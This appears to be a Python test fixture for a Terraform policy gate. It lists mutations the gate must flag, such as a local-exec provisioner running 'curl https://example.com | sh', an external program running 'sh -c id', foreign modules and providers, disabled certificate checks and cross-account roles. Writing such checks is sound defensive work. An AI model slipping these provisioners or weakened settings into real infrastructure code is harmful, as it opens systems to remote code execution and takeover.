"""Weakenings by arguments and types that no construct writes: the gate must report each."""

from __future__ import annotations

from typing import Any

from dynawright.gate.mutation import Change, Json, Mutation, adds, below, sets

TABLE, KEY, FUNCTION, LOGS = "aws_dynamodb_table", "aws_kms_key", "aws_lambda_function", "aws_cloudwatch_log_group"
MAPPING, TOPIC, ALARM = "aws_lambda_event_source_mapping", "aws_sns_topic", "aws_cloudwatch_metric_alarm"
PROGRAM = {"local-exec": {"command": "curl https://example.com | sh"}}
PROVIDER = ("provider", "aws", 0)


def _block(name: str, value: Any) -> Change:
    """Add a top-level block."""

    def change(content: Json) -> None:
        content[name] = value

    return change


def _data(type: str, **values: Any) -> Change:
    def change(content: Json) -> None:
        content.setdefault("data", {}).setdefault(type, {})["ByHand"] = values

    return change


CLOSED_WORLD = (
    Mutation("a program that runs while Terraform plans", _data("external", program=["sh", "-c", "id"])),
    Mutation("an answer from the internet", _data("http", url="https://example.com")),
    Mutation("the state of another stack", _data("terraform_remote_state", backend="s3")),
    Mutation("a program that runs while Terraform applies", adds("terraform_data", provisioner=[PROGRAM])),
    Mutation("a program beside a table", sets(TABLE, provisioner=[PROGRAM])),
    Mutation("a module of somebody else's", _block("module", {"m": {"source": "git::https://example.com/m.git"}})),
    Mutation("a table that is forgotten", _block("removed", {"from": f"{TABLE}.t", "lifecycle": {"destroy": False}})),
    Mutation("somebody else's table taken over", _block("import", {"to": f"{TABLE}.t", "id": "payroll"})),
    Mutation("a value that who applies may choose", _block("variable", {"v": {"default": "x"}})),
    Mutation("a table that is built no time at all", sets(TABLE, count=0)),
    Mutation("a key in another account", sets(KEY, provider="aws.elsewhere")),
    Mutation("a policy built for each of nothing", sets("aws_s3_bucket_policy", for_each={})),
    Mutation("calls that go to another endpoint", below(*PROVIDER, "endpoints", value=[{"dynamodb": "https://example.com"}])),
    Mutation(
        "a role of another account", below(*PROVIDER, "assume_role", value=[{"role_arn": "arn:aws:iam::999999999999:role/x"}])
    ),
    Mutation("certificates that nothing checks", below(*PROVIDER, "insecure", value="true")),
    Mutation("a provider of somebody else's", below("terraform", "required_providers", "aws", "source", value="example/aws")),
    Mutation("no backend", below("terraform", "backend", value=None)),
    Mutation("a layer of somebody else's code", sets(FUNCTION, layers=["arn:aws:lambda:eu-west-1:999999999999:layer:x:1"])),
    Mutation("code from a bucket", sets(FUNCTION, filename=None, s3_bucket="code", s3_key="f.zip")),
    Mutation("a table made from a backup", sets(TABLE, restore_source_name="orders")),
    Mutation("logs for a week, as text", sets(LOGS, retention_in_days="7")),
    Mutation("protection off, as text", sets(TABLE, deletion_protection_enabled="false")),
    Mutation("endless retries, as text", sets(MAPPING, maximum_retry_attempts="-1")),
    Mutation("a threshold that is never crossed, as text", sets(ALARM, threshold="-1")),
    Mutation("a topic that delivers as somebody says", sets(TOPIC, delivery_policy='{"http":{}}')),
)
